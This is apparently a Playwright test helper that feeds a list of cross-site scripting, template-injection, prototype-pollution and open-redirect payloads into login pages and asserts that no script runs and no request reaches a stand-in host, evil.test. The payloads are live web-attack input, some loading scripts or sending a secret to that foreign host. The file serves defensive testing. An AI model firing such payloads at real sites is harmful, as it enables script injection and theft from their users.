import { expect, type Page } from '@playwright/test';

/** The call that shows that an injected script ran. */
const call = "reportInjection('ran')";
const foreign = 'https://evil.test';

/** Texts that run a script or call a foreign host when a page treats them as code, CSS or a URL. */
export const injections = [
  `<script>${call}</script>`,
  `</script><script src=${foreign}/a.js></script>`,
  `</textarea></title></style><script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `"><img src=${foreign}/b.png onload=${call}>`,
  `<svg onload=${call}><animate onbegin=${call} attributeName=x>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data=${foreign}/c></object><embed src=${foreign}/d>`,
  `<math><mtext></p><style><!--</style><img src onerror=${call}>-->`,
  `<input autofocus onfocus=${call}><details open ontoggle=${call}>`,
  `<base href=${foreign}/><meta http-equiv=refresh content=0;url=${foreign}>`,
  `<link rel=stylesheet href=${foreign}/e.css><style>@import '${foreign}/f.css'</style>`,
  `<form action=${foreign}><button formaction=javascript:${call}>`,
  `[click](javascript:${call}) <javascript:${call}> **[x](${foreign})**`,
  `![pixel](${foreign}/g.png) ${foreign}/h?q={{secret}}`,
  `{{constructor.constructor("${call}")()}} \${${call}} #{${call}} <%= ${call} %>`,
  `';${call};'";${call};"\`;${call};//`,
  `\u202e<\u0073cript>${call}</\u0073cript>\u2066`,
  `＜script＞${call}＜/script＞ <scr\u0000ipt>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt; &#60;img src onerror=${call}&#62;`,
  `javascript:${call}//`,
  `data:text/html,<script>${call}</script>`,
  `url(${foreign}/i.png);}*{background:url(${foreign}/j.png)}`,
  `__proto__ constructor.prototype {"__proto__":{"src":"${foreign}/k.js"}}`,
] as const;

/** Query parameters that a login page could evaluate. */
const heeded = ['email', 'name', 'error', 'message', 'state', 'extensionId'];

/** A query with each text once, because servers limit the length of a URL, and with foreign URLs. */
export const hostileQuery = new URLSearchParams({
  ...Object.fromEntries(
    heeded.map((name, own) => [
      name,
      injections.filter((_, index) => index % heeded.length === own).join('\n'),
    ]),
  ),
  redirect: `${foreign}/l`,
  redirectAfterLogin: '//evil.test/m',
  continueUrl: `javascript:${call}`,
  returnTo: '/\\evil.test/n',
  next: `data:text/html,<script>${call}</script>`,
}).toString();

/** The texts as one segment of a path. */
export const hostileSegment = encodeURIComponent(injections.join('\n'));

/** Selects elements that the texts would create. No screen of the app has them. */
const markup = [
  ...['script', 'style', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'img', 'math'].map(
    (element) => `body ${element}`,
  ),
  ...['href', 'src', 'action', 'formaction', 'data'].map((name) => `[${name}^="javascript:" i]`),
  ...['href', 'src', 'action', 'formaction', 'data'].map((name) => `[${name}*="evil.test" i]`),
  '[srcdoc]',
].join(', ');
const handlers = "xpath=//*[@*[starts-with(name(), 'on')]]";

export interface Witness {
  /** Expects that no script ran, nothing was blocked, and no text created an element. */
  readonly expectHarmless: () => Promise<void>;
}

/** Records incidents of a page, starting with its next navigation. */
export async function watchForInjections(page: Page): Promise<Witness> {
  const incidents: string[] = [];
  await page.exposeFunction('reportInjection', (what: string) => incidents.push(what));
  // A violation of the content security policy is also a failure: the text became HTML.
  await page.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
    reportInjection('blocked ' + event.violatedDirective + ' ' + event.blockedURI))`);
  page.on('dialog', (dialog) => {
    incidents.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => incidents.push(`a window: ${popup.url()}`));
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    const isOwn = ['localhost', '127.0.0.1'].includes(hostname);
    if (!isOwn && protocol !== 'data:' && protocol !== 'blob:') incidents.push(request.url());
  });
  return {
    expectHarmless: async () => {
      await expect(page.locator(markup)).toHaveCount(0);
      await expect(page.locator(handlers)).toHaveCount(0);
      expect(incidents).toEqual([]);
    },
  };
}
